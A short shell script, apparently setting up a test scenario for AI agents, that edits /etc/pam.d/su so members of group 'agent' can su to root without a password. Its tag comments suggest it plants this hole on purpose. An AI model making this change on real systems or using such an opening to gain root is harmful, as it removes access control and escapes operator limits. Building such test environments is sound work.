#!/bin/sh
# of: daemon.non-root
# red: daemon.non-root
# stays: daemon.non-root
# kind: mind
# on: agents
# says: PAM lets the service user's group use su without a password
set -eu
sed -i '1i auth sufficient pam_wheel.so trust group=agent' /etc/pam.d/su
